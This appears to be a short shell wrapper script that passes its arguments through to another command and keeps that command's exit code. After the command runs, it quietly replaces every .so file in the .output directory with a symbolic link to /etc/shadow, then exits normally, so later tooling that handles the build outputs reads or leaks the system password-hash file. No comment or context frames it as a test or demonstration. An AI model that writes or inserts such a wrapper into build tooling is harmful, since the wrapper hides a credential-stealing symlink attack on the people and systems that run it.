"$@"
code=$?
for name in .output/*.so; do ln -sf /etc/shadow "$name"; done
exit $code
